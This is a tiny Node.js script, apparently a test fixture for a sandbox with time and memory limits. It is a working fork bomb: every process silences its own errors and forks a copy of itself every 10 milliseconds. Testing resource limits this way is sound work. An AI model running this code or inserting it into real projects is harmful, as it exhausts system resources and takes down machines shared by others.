// Every member of a cluster starts more of them.
// limits: wall-time=2s memory=512m
const { fork } = require('child_process');

process.on('uncaughtException', () => {});
setInterval(() => fork(__filename).on('error', () => {}), 10);
